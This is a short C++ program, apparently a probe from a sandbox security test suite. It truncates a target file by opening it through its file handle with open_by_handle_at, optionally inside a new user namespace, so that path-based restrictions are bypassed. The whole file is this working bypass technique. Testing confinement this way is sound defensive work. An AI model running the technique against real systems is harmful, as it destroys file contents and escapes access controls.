// SPDX-License-Identifier: MIT
// handle DIRECTORY FILE [userns]: empties FILE through its handle and an open DIRECTORY of the same
// file system, passing every path by; with `userns` with the capabilities of a user namespace.
#include <sched.h>

#include <string_view>

#include "attack.hpp"

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  alignas(file_handle) char space[sizeof(file_handle) + MAX_HANDLE_SZ];
  auto* handle = reinterpret_cast<file_handle*>(space);
  handle->handle_bytes = MAX_HANDLE_SZ;
  int mount = 0;
  if (name_to_handle_at(AT_FDCWD, argv[2], handle, &mount, 0) != 0) return ended(-1);
  if (argc > 3 && unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return 1;
  int directory = open(argv[1], O_RDONLY | O_DIRECTORY);
  int fd = open_by_handle_at(directory, handle, O_WRONLY | O_TRUNC);
  if (fd < 0) return 1;
  return write(fd, "x", 1) == 1 ? 0 : 1;
}
